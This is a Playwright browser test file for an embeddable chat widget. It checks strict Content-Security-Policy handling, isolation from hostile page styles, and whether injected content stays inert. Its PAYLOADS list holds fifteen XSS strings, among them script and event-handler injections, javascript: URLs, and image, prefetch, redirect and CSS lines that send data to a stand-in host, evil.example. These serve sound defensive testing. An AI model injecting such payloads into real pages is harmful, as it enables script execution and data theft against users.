"""The widget where it is not welcome: strict policies, a page's wild styles, and material that means harm."""

from __future__ import annotations

import io
from collections.abc import Iterator, Sequence

import pytest
from PIL import Image, ImageChops
from playwright.sync_api import Browser, Page, expect

from chat.models import Answer, Citation, Delta, Disagreement, DisagreementKind, Done, Event, Message, Severity, Status
from index.models import EVERYTHING, Filters
from tests.browser.sites import World, ask, open_chat, told_in_console, watch, world
from tests.fake_assistant import TRANSCRIPT, FakeAssistant, cite, position

pytestmark = [
    pytest.mark.browser,
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]
EVIL = "https://evil.example/steal?q=secret"
PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(2)</script>",
    "<svg onload=alert(3)>",
    "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe>",
    "<details open ontoggle=alert(5)>x</details>",
    "javascript:alert(6)",
    "JaVaScRiPt\t:alert(7)",
    "data:text/html,<script>alert(8)</script>",
    "\"><a href='javascript:alert(9)'>x</a>",
    "</p></div><style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}</style>",
    f"<form action='{EVIL}'><input autofocus onfocus=alert(10)></form>",
    f"![x]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"[click me](javascript:alert(11)) <{EVIL}> $$\\href{{javascript:alert(12)}}{{x}}$$",
    f"<link rel=prefetch href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
)
OURS = {
    "div", "section", "header", "article", "form", "h2", "h3", "h4", "p", "b", "a", "ul", "ol", "li", "span", "button",
    "textarea", "details", "summary", "blockquote", "svg", "path",
}  # fmt: skip
QUOTE = "It was lit in 1874."


def hostile(payload: str) -> Answer:
    """An answer that carries the payload wherever an answer carries words of others."""
    told = {"quote": payload, "title": payload, "url": payload, "speaker": payload, "path": payload, "heard": payload}
    first: Citation = cite(1, TRANSCRIPT, QUOTE).model_copy(update=told)
    about = {"value": payload, "quote": payload, "speaker": payload, "path": payload}
    sides = tuple(position(first, "1874").model_copy(update=about) for _ in range(2))
    dispute = Disagreement(
        id="d", topic=payload, kind=DisagreementKind.DATE, severity=Severity.CONFLICT, positions=sides
    )
    return Answer(
        id="a", question=payload, status=Status.ANSWERED, confidence=0.5, answer=f"{payload} [1]", citations=(first,),
        disagreements=(dispute,), suggestions=(payload + "?",), asked_as=payload + "!", notice=payload,
    )  # fmt: skip


class Hostile(FakeAssistant):
    """Answers a question "n" with the n-th payload."""

    def stream(self, question: str, history: Sequence[Message] = (), filters: Filters = EVERYTHING) -> Iterator[Event]:
        answer = hostile(PAYLOADS[int(question)])
        yield Delta(text=answer.answer)
        yield from answer.citations
        yield Done(answer=answer)

    def suggestions(self) -> tuple[str, ...]:
        return PAYLOADS[:4]


@pytest.fixture(scope="module")
def three() -> Iterator[World]:
    with world(FakeAssistant()) as three:
        yield three


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    page = chromium.new_page(locale="en-GB", reduced_motion="reduce", viewport={"width": 1100, "height": 760})
    page.set_default_timeout(15_000)
    yield page
    page.close()


# --- policies


@pytest.mark.parametrize(
    "policy",
    [
        pytest.param("script-src {server}; connect-src {server}", id="by host"),
        pytest.param("script-src 'nonce-n0nce'; connect-src {server}", id="by nonce"),
        pytest.param(
            "script-src 'nonce-n0nce' 'strict-dynamic'; connect-src {server}; "
            "require-trusted-types-for 'script'; trusted-types 'none'",
            id="strict-dynamic and Trusted Types",
        ),
    ],
)
def test_it_works_under_a_strict_policy(page: Page, three: World, policy: str) -> None:
    told = told_in_console(page)
    strict = f"default-src 'none'; img-src data:; base-uri 'none'; {policy.format(server=three.server)}"
    page.goto(three.listed.put("strict", three.tag("nonce='n0nce'"), policy=strict))
    open_chat(page)
    ask(page, "How tall is it?")
    expect(page.locator("ask-show .disagree")).to_contain_text("46 metres")
    page.get_by_role("button", name="Source 1").first.click()
    expect(page.get_by_role("dialog")).to_have_css("border-radius", "18px")
    assert told == []


def test_it_says_when_the_policy_lacks_connect_src(page: Page, three: World) -> None:
    told = told_in_console(page)
    policy = f"default-src 'none'; img-src data:; script-src {three.server}"
    page.goto(three.listed.put("unconnected", three.tag(), policy=policy))
    open_chat(page)
    ask(page, "How tall is it?")
    expect(page.locator("ask-show .error")).to_contain_text("cannot be reached just now")
    needed = f"ask-show: this page's Content-Security-Policy stops the chat. Add {three.server} to connect-src."
    assert needed in told


def test_it_says_when_the_policy_lets_only_the_loader_in(page: Page, three: World) -> None:
    told = told_in_console(page)
    policy = f"default-src 'none'; img-src data:; script-src {three.server}/widget/v1.js; connect-src {three.server}"
    page.goto(three.listed.put("half", three.tag(), policy=policy))
    page.locator("ask-show button.open").click()
    expect(page.get_by_role("button", name="The chat cannot be loaded just now")).to_be_visible()
    needed = f"ask-show: this page's Content-Security-Policy stops the chat. Add {three.server} to script-src."
    assert needed in told


# --- the page around it

WILD = """<style>
  * { color: red !important; background: pink !important; font: 900 40px/3 cursive !important; margin: 9px !important;
      border: 5px solid red !important; letter-spacing: 1em !important; text-transform: uppercase !important;
      box-sizing: content-box !important; float: right !important; max-width: 50px !important; cursor: help !important }
  html, body { transform: rotate(2deg); filter: blur(1px); opacity: .5; visibility: hidden !important }
  ask-show { display: none !important; position: static !important; width: 9px !important; z-index: -1 !important;
      opacity: 0 !important; pointer-events: none !important }
  div, section, button, textarea, p, h2 { display: none !important }
</style>"""


def pictures(page: Page, address: str) -> list[bytes]:
    """The button, the open chat, and a disagreement, each without its rounded corners."""
    page.goto(address)
    taken = []
    for act in (None, lambda: open_chat(page), lambda: ask(page, "How tall is it?")):
        if act:
            act()
            page.mouse.move(5, 5)
            page.locator("ask-show h2").click()
        box = page.locator("ask-show :is(button.open, .panel):visible").bounding_box()
        assert box
        clip = {"x": box["x"] + 20, "y": box["y"] + 20, "width": box["width"] - 40, "height": box["height"] - 40}
        page.wait_for_timeout(200)
        taken.append(page.screenshot(clip=clip, caret="hide"))  # type: ignore[arg-type]  # a plain dict is one
    return taken


def test_the_pages_own_styles_change_nothing_in_it(page: Page, three: World) -> None:
    calm = pictures(page, three.listed.put("calm", three.tag()))
    page.evaluate("sessionStorage.clear()")
    wild = pictures(page, three.listed.put("wild", WILD + three.tag()))
    assert [differing(one, other) for one, other in zip(calm, wild, strict=True)] == [0, 0, 0]


def differing(one: bytes, other: bytes) -> int:
    """Pixels that can be told apart; smoothing of edges may differ by a shade where a page is blurred."""
    first, second = (Image.open(io.BytesIO(each)).convert("L") for each in (one, other))
    assert first.size == second.size
    return sum(ImageChops.difference(first, second).histogram()[9:])


def test_it_changes_nothing_of_the_page(page: Page, three: World) -> None:
    seen = "[Object.keys(window).sort(), document.styleSheets.length, document.querySelector('main').innerHTML]"
    page.goto(three.listed.put("bare", ""))
    before = page.evaluate(seen), page.screenshot(clip={"x": 0, "y": 0, "width": 600, "height": 500})
    page.goto(three.listed.put("with", three.tag()))
    open_chat(page)
    ask(page, "How tall is it?")
    page.get_by_role("button", name="Close").click()
    assert (page.evaluate(seen), page.screenshot(clip={"x": 0, "y": 0, "width": 600, "height": 500})) == before
    assert page.evaluate("[...document.body.children].map(each => each.localName)") == ["main", "ask-show"]


# --- material that means harm


def test_fifteen_payloads_in_every_field_stay_text(page: Page) -> None:
    with world(Hostile()) as three:
        faults = watch(page, three.server, three.listed.address)
        page.goto(three.listed.put("plain", three.tag()))
        open_chat(page)
        page.locator("ask-show .suggestion").first.wait_for()
        for n in range(len(PAYLOADS)):
            ask(page, str(n))
        page.evaluate(
            "document.querySelector('ask-show').shadowRoot.querySelectorAll('details').forEach(e => e.open = true)"
        )
        look(page, three)
        page.reload()  # what was kept in the tab's storage is drawn again
        open_chat(page)
        look(page, three)
        assert faults == []


def look(page: Page, three: World) -> None:
    """Nothing of a payload has become an element, and links go nowhere but to web pages."""
    page.wait_for_timeout(300)
    made: list[str] = page.evaluate(
        "[...document.querySelector('ask-show').shadowRoot.querySelectorAll('*')].map(each => each.localName)"
    )
    assert set(made) <= OURS
    assert made.count("form") == 1
    addresses = page.locator("ask-show a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert all(each.startswith(f"{three.server}/source?") for each in addresses)
    attributes = page.evaluate(
        "[...document.querySelector('ask-show').shadowRoot.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
    )
    assert [each for each in attributes if each.startswith(("on", "style", "src"))] == []
    text = page.locator("ask-show .log").inner_text()
    assert "<iframe srcdoc=" in text
